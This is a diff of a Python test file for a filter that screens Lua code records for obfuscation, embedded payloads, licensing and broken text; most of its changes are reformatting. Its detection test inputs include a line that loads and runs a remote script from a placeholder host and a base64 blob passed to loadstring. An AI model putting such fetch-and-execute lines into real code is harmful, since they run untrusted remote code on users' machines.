@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import base64
+import itertools
 import random
 
 import pytest
@@ -41,16 +42,38 @@ def _padded(body: str) -> str:
 @pytest.mark.parametrize(
     ("text", "reason"),
     [
-        ("-- This file was automatically generated. Do not edit.\n" + _padded("local a = 1"), "generated-header"),
+        (
+            "-- This file was automatically generated. Do not edit.\n" + _padded("local a = 1"),
+            "generated-header",
+        ),
         ("--[[ Obfuscated with Luraph ]]\n" + _padded("local a = 1"), "generated-header"),
         ("local t = {" + ", ".join(str(i) for i in range(400)) + "}\n" + _padded(""), "long-lines"),
         (
-            _padded("local p = '" + base64.b64encode(random.Random(1).randbytes(600)).decode() + "'\nloadstring(p)()"),
+            _padded(
+                "local p = '"
+                + base64.b64encode(random.Random(1).randbytes(600)).decode()
+                + "'\nloadstring(p)()"
+            ),
             "loadstring-payload",
         ),
-        (_padded("loadstring(game:HttpGet('https://example.invalid/x.lua'))()"), "loadstring-payload"),
-        (_padded("local key = '" + base64.b64encode(random.Random(2).randbytes(300)).decode() + "'"), "high-entropy-string"),
-        (_padded("local s = '" + "".join(f"\\{random.Random(i).randint(1, 255)}" for i in range(60)) + "'"), "escaped-payload"),
+        (
+            _padded("loadstring(game:HttpGet('https://example.invalid/x.lua'))()"),
+            "loadstring-payload",
+        ),
+        (
+            _padded(
+                "local key = '" + base64.b64encode(random.Random(2).randbytes(300)).decode() + "'"
+            ),
+            "high-entropy-string",
+        ),
+        (
+            _padded(
+                "local s = '"
+                + "".join(f"\\{random.Random(i).randint(1, 255)}" for i in range(60))
+                + "'"
+            ),
+            "escaped-payload",
+        ),
         (
             _padded("\n".join(f"local IlIlIl{'l' * (i % 5)}I{i} = IlIlIlI{i}" for i in range(15))),
             "obfuscated-names",
@@ -75,8 +98,16 @@ def test_filter_chain_counts_each_reason_and_keeps_the_rest() -> None:
         CodeRecord(id="gpl", text=texts["killbrick.luau"], license="GPL-3.0"),
         CodeRecord(id="nolicense", text=texts["door_tween.luau"], license=None),
         CodeRecord(id="dual", text=texts["round_timer.luau"], license="['GPL-3.0', 'MIT']"),
-        CodeRecord(id="lossy", text=texts["sprint.client.luau"].replace("Shift", "Sh\ufffdft"), license="MIT"),
-        CodeRecord(id="broken", text="local function f(\n  x = = 1\nend end end\nprint(2)\n" * 3, license="MIT"),
+        CodeRecord(
+            id="lossy",
+            text=texts["sprint.client.luau"].replace("Shift", "Sh\ufffdft"),
+            license="MIT",
+        ),
+        CodeRecord(
+            id="broken",
+            text="local function f(\n  x = = 1\nend end end\nprint(2)\n" * 3,
+            license="MIT",
+        ),
     ]
     kept, chain = filter_records(good + bad, FilterConfig(min_score=0.5))
     kept_ids = {r.id for r in kept}
@@ -88,7 +119,7 @@ def test_filter_chain_counts_each_reason_and_keeps_the_rest() -> None:
     assert all(r.score is not None and r.score >= 0.5 for r in kept)
     # counts are consistent: each step sees what the previous one kept
     steps = [chain.stats[s] for s in FilterChain.STEPS]
-    for before, after in zip(steps, steps[1:], strict=False):
+    for before, after in itertools.pairwise(steps):
         assert after.seen == before.kept
 
 
@@ -96,6 +127,8 @@ def test_filters_can_be_turned_off() -> None:
     record = CodeRecord(id="x", text="print(1)\n", license=None)
     kept, _ = filter_records(
         [record],
-        FilterConfig(min_chars=None, min_lines=None, license_allow=None, min_score=None, compute_scores=False),
+        FilterConfig(
+            min_chars=None, min_lines=None, license_allow=None, min_score=None, compute_scores=False
+        ),
     )
     assert kept == [record]
